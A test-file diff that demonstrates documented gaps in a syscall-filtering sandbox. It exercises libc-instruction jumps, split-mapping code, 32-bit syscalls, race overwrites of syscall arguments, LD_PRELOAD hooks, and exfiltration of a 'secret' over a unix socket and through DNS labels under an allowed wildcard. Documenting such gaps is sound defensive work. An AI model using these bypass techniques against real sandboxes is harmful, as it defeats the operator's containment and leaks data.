@@ -1,0 +1,297 @@
+"""The rows of docs/threat-model.md: what the process engine does not stop is shown not to be stopped.
+
+A row whose test starts to fail has become a promise: move it.
+"""
+
+from __future__ import annotations
+
+import errno
+import re
+import signal
+import socket
+import threading
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+
+import pytest
+
+from harness.compiling import SOURCES, compile_c
+from harness.elf_files import offset_of
+from harness.mounting import make_places, run_mounted
+from harness.running import PYTHON, SHIELD, policy, prepare_tmp, whole_sandbox
+from shielded_function import ShieldPolicy
+from shielded_function_emulator.dns_server import DnsServer
+from shielded_function_emulator.machine import architecture
+from shielded_function_emulator.sandbox import Completed, Sandbox
+
+DOCUMENT = Path(__file__).parents[2] / "docs" / "threat-model.md"
+TESTS = Path(__file__).parents[1]
+LOAD = "import ctypes; beyond = ctypes.CDLL('/var/task/beyond.so'); "
+TMP_BLOCKED = policy(read_write_tmp="block")
+x86_64 = pytest.mark.skipif(architecture() != "x86_64", reason="aarch64 has no such thing")
+
+
+@pytest.fixture(scope="module")
+def box(layer: Path, task: Path) -> Iterator[Sandbox]:
+    make_places(task)
+    target = f"{architecture()}-linux-gnu"
+    for name in ("beyond", "inline", "large"):
+        compile_c([SOURCES / f"{name}.c"], task / f"{name}.so", "-shared", "-fPIC", target=target)
+    across = bytearray((task / "large.so").read_bytes())
+    across[(1 << 20) - 6 : (1 << 20) + 2] = bytes.fromhex("b802000000 0f05 c3")  # open, and back
+    (task / "across.so").write_bytes(across)
+    compile_c([SOURCES / "resolver.c"], task / "resolver.so", "-shared", "-fPIC", target=target)
+    compile_c([SOURCES / "resolver.c"], task / "resolver", target=target)
+    compile_c([SOURCES / "overwriting.c"], task / "overwriting", "-lpthread", target=target)
+    compile_c([SOURCES / "laid_text.c"], task / "laid_text", "-lpthread", "-ldl", target=target)
+    target = f"{architecture()}-linux-musl"
+    compile_c([SOURCES / "static_child.c"], task / "static_child", "-static", target=target)
+    with whole_sandbox(task, layer) as sandbox:
+        yield sandbox
+
+
+def run(box: Sandbox, code: str, settings: Mapping[str, str]) -> Completed:
+    prepare_tmp(box)
+    done = box.run_command([SHIELD, PYTHON, "-c", code], environment=settings)
+    assert done.returncode == 0, f"{done.returncode}: {done.stderr}"
+    return done
+
+
+def test_a_jump_to_an_instruction_of_libc(box: Sandbox) -> None:
+    done = run(box, LOAD + "print(beyond.open_at_libc_instruction(b'/tmp/there') > 2)", TMP_BLOCKED)
+    assert done.stdout == "True\n"
+
+
+@x86_64
+def test_an_instruction_inside_another(box: Sandbox) -> None:
+    done = run(box, LOAD + "print(beyond.open_at_hidden_instruction(b'/tmp/there') > 2)", TMP_BLOCKED)
+    assert done.stdout == "True\n"
+
+
+@x86_64
+def test_an_instruction_across_two_mappings(box: Sandbox) -> None:
+    code = """
+import ctypes, os
+libc = ctypes.CDLL(None)
+libc.mmap.restype = ctypes.c_void_p
+file, page = os.open("/var/task/across.so", os.O_RDONLY), ctypes.c_size_t(4096)
+low = libc.mmap(None, ctypes.c_size_t(8192), 1, 2, file, 0)
+for at, offset in ((low, (1 << 20) - 4096), (low + 4096, 1 << 20)):
+    libc.mmap(ctypes.c_void_p(at), page, 5, 0x12, file, ctypes.c_long(offset))
+print(ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_int)(low + 4090)(b"/tmp/there", 0) > 2)
+"""
+    assert run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}).stdout == "True\n"
+
+
+def test_code_in_executable_memory(box: Sandbox) -> None:
+    code = LOAD + "print(beyond.open_in_own_code(b'/tmp/there'))"
+    allowed = run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "allow"})
+    assert int(allowed.stdout) > 2
+    blocked = run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"})
+    assert int(blocked.stdout) == -errno.EACCES
+
+
+def test_a_signal_handler_maps_text_under_an_advice(box: Sandbox) -> None:
+    """The advice was judged while nothing was there, and falls on the library that a handler mapped meanwhile."""
+    blocked = TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}
+    prepare_tmp(box)
+    done = box.run_command([SHIELD, "/var/task/laid_text", "/var/task/inline.so", "/tmp/there"], environment=blocked)
+    assert done.stdout.split()[0] == "1", f"never in {done.stdout} tries: {done.stderr[-2000:]}"
+
+
+@x86_64
+def test_the_32_bit_way_in_where_the_kernel_has_it(layer: Path, box: Sandbox) -> None:
+    code = LOAD + "print(beyond.getpid_by_int80())"
+    filtered = box.run_command([SHIELD, PYTHON, "-c", code], environment=TMP_BLOCKED)
+    assert filtered.returncode < 0, "the filter that Lambda has ends the process"
+    assert box.task is not None
+    with Sandbox(task=box.task, layers=layer, filtered=False) as unfiltered:
+        done = unfiltered.run_command([SHIELD, PYTHON, "-c", code], environment=TMP_BLOCKED)
+    if done.returncode < 0 or int(done.stdout) < 0:
+        pytest.skip(f"this kernel has no 32-bit system calls ({done.returncode}: {done.stdout})")
+    assert int(done.stdout) > 0
+
+
+def test_a_descriptor_read_between_open_and_refusal(box: Sandbox) -> None:
+    code = LOAD + "print(beyond.read_between_open_and_refusal(b'/tmp/there', 20000))"
+    done = run(box, code, TMP_BLOCKED)
+    assert int(done.stdout) == -1, "the object was open before it was refused"
+
+
+def test_the_engines_own_data_can_be_overwritten(box: Sandbox) -> None:
+    code = """
+import ctypes
+lines = list(open("/proc/self/maps"))
+last = max(i for i, line in enumerate(lines) if "libshield" in line)
+data = next(line for line in lines[last:] if "rw-p" in line)
+low = int(data.split("-")[0], 16)
+ctypes.memmove(low, bytes(ctypes.string_at(low, 1)), 1)
+print("written")
+"""
+    assert run(box, code, TMP_BLOCKED).stdout == "written\n"
+
+
+def test_a_listed_program_that_the_function_can_write(box: Sandbox) -> None:
+    """What it runs while it is linked runs before the code of any library."""
+    code = """
+import os, shutil, subprocess
+try: open("/tmp/mark", "w")
+except PermissionError: print("denied")
+os.mkdir("/tmp/allowed")
+shutil.copy("/var/task/resolver", "/tmp/allowed/program")
+print(subprocess.run(["/tmp/allowed/program"]).returncode)
+"""
+    settings = policy(read_write_tmp="block", create_child_process="block")
+    settings |= {
+        "SHIELD_ALLOW_CHILD_PROCESS": "/tmp/allowed/program",
+        "SHIELD_ALLOW_TMP": "/tmp/allowed,/tmp/allowed/**",
+    }
+    assert run(box, code, settings).stdout == "denied\n0\n"
+    assert (box.path("/tmp") / "mark").read_text() == "mark"
+
+
+def test_a_library_decides_an_address_before_any_constructor(box: Sandbox) -> None:
+    for preload in ({"LD_PRELOAD": "/var/task/resolver.so"}, {}):
+        prepare_tmp(box)
+        done = box.run_command([SHIELD, PYTHON, "-c", ""], environment=TMP_BLOCKED | preload)
+        assert done.returncode == 0, done.stderr
+        assert (box.path("/tmp") / "mark").exists() == bool(preload)
+
+
+def test_another_thread_overwrites_a_childs_environment(box: Sandbox) -> None:
+    prepare_tmp(box)
+    settings = policy(read_write_tmp="block", create_child_process="block")
+    settings |= {"SHIELD_ALLOW_CHILD_PROCESS": "/bin/sh"}
+    done = box.run_command([SHIELD, "/var/task/overwriting", "environment", "/bin/sh"], environment=settings)
+    assert done.stdout.startswith("1 "), done.stdout + done.stderr[-2000:]
+    assert (box.path("/tmp") / "mark").read_text() == "mark\n"
+
+
+def overwritten(box: Sandbox, what: str, by: str, settings: Mapping[str, str]) -> Completed:
+    """The attack may be stopped between its look at the stack and its writing, and write over what came to be there. It
+    ends then, and is made again."""
+    for _ in range(10):
+        done = box.run_command([SHIELD, "/var/task/overwriting", what, by], environment=settings)
+        if done.returncode != -signal.SIGSEGV:
+            return done
+    pytest.fail("the attack ended itself ten times")
+
+
+def test_another_thread_overwrites_an_address_on_the_stack(box: Sandbox) -> None:
+    with box.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
+        server.bind(("198.51.100.9", 80))
+        server.listen()
+        done = overwritten(box, "address", "198.51.100.9", policy(outbound_connectivity="block"))
+        assert done.stdout.startswith("1 "), done.stdout + done.stderr[-2000:]
+        connection, _ = server.accept()
+        with connection:
+            assert connection.recv(64) == b"mark"
+
+
+def test_another_thread_overwrites_a_path_in_proc(box: Sandbox) -> None:
+    prepare_tmp(box)
+    done = overwritten(box, "path", "/tmp/there", TMP_BLOCKED)
+    assert done.stdout.startswith("1 "), done.stdout + done.stderr[-2000:]
+
+
+def test_a_static_child_that_the_list_lets_run(box: Sandbox) -> None:
+    code = """
+import subprocess
+try: print(subprocess.run(["/var/task/static_child", "/tmp/there"]).returncode)
+except PermissionError: print("denied")
+"""
+    listed = policy(read_write_tmp="block", create_child_process="block")
+    free = listed | {"SHIELD_ALLOW_CHILD_PROCESS": "unshielded:/var/task/static_child"}
+    assert run(box, code, free).stdout == "0\n", "it runs without the shield, and reads /tmp"
+    listed |= {"SHIELD_ALLOW_CHILD_PROCESS": "/var/task/static_child"}
+    assert run(box, code, listed).stdout == "denied\n", "without that word it does not start"
+    assert run(box, code, TMP_BLOCKED).stdout == "denied\n", "not even where children are allowed"
+
+
+def test_what_was_mounted_elsewhere(box: Sandbox, layer: Path) -> None:
+    code = "open('/tmp/folder/new', 'w').close(); open('/var/task/memory', 'r+b').close(); print('opened')"
+    command = [SHIELD, PYTHON, "-c", code]
+    prepare_tmp(box)
+    refused = box.run_command(command, environment=TMP_BLOCKED)
+    done = run_mounted(["laid_over"], box, layer, command, TMP_BLOCKED)
+    assert (refused.returncode, refused.stdout) == (1, ""), "without the mount"
+    assert (done.returncode, done.stdout) == (0, "opened\n"), done.stderr
+    command = [SHIELD, PYTHON, "-c", "open('/elsewhere/there').close(); print('opened'); open('/tmp/there')"]
+    for kind in ("folder", "folder_of_layer"):
+        done = run_mounted(["other_root", kind], box, layer, command, TMP_BLOCKED)
+        assert (done.returncode, done.stdout) == (1, "opened\n"), done.stderr
+
+
+def test_a_handler_in_a_layer_of_the_root(box: Sandbox, layer: Path) -> None:
+    code = """
+import sys; sys.path.insert(0, "/var/task")
+from behaviour import refusal, request, serve_runtime_api
+request(serve_runtime_api(), b"GET /2018-06-01/runtime/invocation/next")
+print([refusal(lambda: open(path).close()) for path in ("/var/task/etc/there", "/elsewhere/there")])
+"""
+    settings = policy(read_handler="block") | {"_HANDLER": "etc/there.handler"}
+    done = run_mounted(["other_root", "code_of_layer"], box, layer, [SHIELD, PYTHON, "-c", code], settings)
+    assert done.stdout == f"[{errno.EACCES}, None]\n", done.stderr
+
+
+def test_a_file_changes_where_the_mount_of_root_can_be_written(box: Sandbox, layer: Path) -> None:
+    library = box.path("/var/task/inline.so")
+    begin = offset_of(library, "inline_open")
+    code = f"""
+import ctypes, os, shutil
+shutil.copy("/var/task/large.so", "/elsewhere/large.so")
+file, midst = os.open("/elsewhere/large.so", os.O_RDWR), 1 << 20
+libc = ctypes.CDLL(None)
+libc.mmap.restype = ctypes.c_void_p
+low = libc.mmap(None, ctypes.c_size_t(4096), 5, 2, file, ctypes.c_long(midst))
+os.pwrite(file, bytes.fromhex("{library.read_bytes()[begin : begin + 128].hex()}"), midst)
+print(ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p)(low)(b"/tmp/there") > 2)
+"""
+    settings = TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}
+    done = run_mounted(["other_root", "apart"], box, layer, [SHIELD, PYTHON, "-c", code], settings)
+    assert (done.returncode, done.stdout) == (0, "True\n"), done.stderr
+
+
+def test_local_sockets_are_open(box: Sandbox) -> None:
+    prepare_tmp(box)
+    server = box.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind("\0forwarder")
+    server.listen()
+    heard: list[bytes] = []
+    thread = threading.Thread(target=lambda: heard.append(server.accept()[0].recv(64)))
+    thread.start()
+    run(box, "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0forwarder'); s.send(b'secret')",
+        policy(outbound_connectivity="block"))  # fmt: skip
+    thread.join(10)
+    server.close()
+    assert heard == [b"secret"]
+
+
+def test_labels_under_an_allowed_wildcard(box: Sandbox) -> None:
+    settings = policy(outbound_connectivity="block") | {"SHIELD_ALLOW_OUTBOUND": "*.partner.example"}
+    with DnsServer(box, {"*.partner.example": ["203.0.113.9"]}) as server:
+        run(box, "import socket; socket.getaddrinfo('c2VjcmV0.partner.example', 443)", settings)
+        assert server.asked("c2vjcmv0")
+
+
+def test_a_bucket_of_somebody_else() -> None:
+    """Host names say which service is spoken to, not whose bucket."""
+    everything, one_service = ShieldPolicy(), ShieldPolicy(allow_aws=["dynamodb"])
+    foreign = "somebody-elses-bucket.s3.us-east-1.amazonaws.com"
+    assert everything.decide("resolve", foreign).action == "allow"
+    assert one_service.decide("resolve", foreign).action == "deny"
+
+
+def test_every_row_names_a_test_that_exists() -> None:
+    text = DOCUMENT.read_text()
+    rows = [line for line in text.splitlines() if line.startswith("| ") and "---" not in line]
+    named = re.findall(r"`(test_\w+\.py)::(test_\w+)`", text)
+    assert len(named) >= 20
+    missing = [
+        f"{file}::{name}"
+        for file, name in named
+        if not any(f"def {name}(" in path.read_text() for path in TESTS.rglob(file))
+    ]
+    assert missing == []
+    headings = ("| what ", "| failure ", "| promise ")
+    assert [row for row in rows if "::test_" not in row and not row.startswith(headings)] == []
